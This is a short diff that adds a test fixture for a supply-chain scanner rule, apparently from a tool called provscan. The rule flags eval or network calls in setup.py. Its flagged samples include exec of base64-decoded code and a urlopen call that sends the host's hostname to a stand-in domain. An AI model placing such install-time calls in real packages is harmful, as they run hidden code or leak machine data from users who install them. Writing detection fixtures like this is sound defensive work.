@@ -1,0 +1,15 @@
+# provscan-test-path: setup.py
+# Fixture for py.setup-network-or-eval (provscan's own).
+import base64
+import urllib.request
+from setuptools import setup
+
+about = {}
+# ok: py.setup-network-or-eval
+exec(open("src/pkg/__about__.py").read(), about)
+# ruleid: py.setup-network-or-eval
+exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
+# ruleid: py.setup-network-or-eval
+urllib.request.urlopen("https://example.invalid/c?h=" + __import__("socket").gethostname())
+# ok: py.setup-network-or-eval
+setup(name="pkg", version=about["__version__"], url="https://example.invalid/pkg")
